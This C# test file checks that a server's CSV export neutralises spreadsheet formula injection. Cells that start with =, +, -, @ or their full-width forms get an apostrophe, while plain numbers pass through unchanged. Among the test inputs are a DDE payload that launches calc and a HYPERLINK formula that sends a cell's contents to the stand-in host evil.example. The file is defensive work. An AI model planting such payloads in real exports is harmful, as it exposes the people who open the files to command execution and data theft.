using System.Text;
using Chroma.Server.Cli.Internal;

namespace Chroma.Server.Tests.Cli;

/// <summary>
/// The cells of the export commands' CSV (probe S, S4): text a spreadsheet would run as a formula gets a <c>'</c> before
/// it, inside the usual RFC 4180 quoting; plain numbers and numeric columns are written as they are.
/// </summary>
[TestFixture]
public sealed class CsvCellsTests
{
    [TestCase("=1+1", "'=1+1")]
    [TestCase("+A1", "'+A1")]
    [TestCase("-A1", "'-A1")]
    [TestCase("@SUM(A1:A9)", "'@SUM(A1:A9)")]
    [TestCase("\t=1+1", "'\t=1+1")]
    [TestCase("\r=1+1", "\"'\r=1+1\"")]
    [TestCase("=cmd|'/C calc'!A0", "'=cmd|'/C calc'!A0")]
    [TestCase(" =1+1", "' =1+1")]
    [TestCase("\u3000 =1+1", "'\u3000 =1+1")]
    [TestCase("\uFF1D1+1", "'\uFF1D1+1")]
    [TestCase("\uFF0BA1", "'\uFF0BA1")]
    [TestCase("\uFF0DA1", "'\uFF0DA1")]
    [TestCase("\uFF20SUM(A1:A9)", "'\uFF20SUM(A1:A9)")]
    [TestCase(" -A1", "' -A1")]
    [TestCase("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"")]
    public void AppendText_DangerousFirstCharacter_QuotePrefixedInsideCsvQuoting(string value, string expected)
    {
        Assert.That(Cell(value), Is.EqualTo(expected));
    }

    [TestCase("-1")]
    [TestCase("+3.5")]
    [TestCase("-2e-3")]
    [TestCase("+1E+10")]
    [TestCase("-.5")]
    [TestCase("-0")]
    [TestCase(" -1")]
    public void AppendText_SignedPlainNumber_Untouched(string value)
    {
        Assert.That(Cell(value), Is.EqualTo(value));
    }

    [TestCase("-1+A1", "'-1+A1")]
    [TestCase("+1e", "'+1e")]
    [TestCase("-", "'-")]
    [TestCase("+-1", "'+-1")]
    [TestCase("-Infinity", "'-Infinity")]
    [TestCase("-1\n", "\"'-1\n\"")]
    [TestCase("- 1", "'- 1")]
    public void AppendText_SignedButNotAPlainNumber_QuotePrefixed(string value, string expected)
    {
        Assert.That(Cell(value), Is.EqualTo(expected));
    }

    [TestCase("cat", "cat")]
    [TestCase("a=b", "a=b")]
    [TestCase("a =1", "a =1")]
    [TestCase(" 1", " 1")]
    [TestCase("file://prod/1.png", "file://prod/1.png")]
    [TestCase("new, \"odd\" class", "\"new, \"\"odd\"\" class\"")]
    [TestCase("", "")]
    [TestCase(null, "")]
    public void AppendText_OrdinaryText_OnlyQuotedAsRfc4180Says(string? value, string expected)
    {
        Assert.That(Cell(value), Is.EqualTo(expected));
    }

    [TestCase("'quoted", "''quoted")]
    [TestCase("'=1+1", "''=1+1")]
    [TestCase("'", "''")]
    public void AppendText_TextBeginningWithAQuote_OneMoreSoDroppingOneUndoesTheRule(string value, string expected)
    {
        Assert.That(Cell(value), Is.EqualTo(expected));
    }

    [TestCase("-0.5")]
    [TestCase("-1E-45")]
    [TestCase("-1700000000000")]
    public void AppendNumber_NegativeNumber_Untouched(string value)
    {
        var line = new StringBuilder();

        CsvCells.AppendNumber(line, value);

        Assert.That(line.ToString(), Is.EqualTo(value + ","));
    }

    private static string Cell(string? value)
    {
        var line = new StringBuilder();
        CsvCells.AppendText(line, value);
        Assert.That(line[^1], Is.EqualTo(','), "each cell ends with its comma");
        return line.ToString(0, line.Length - 1);
    }
}
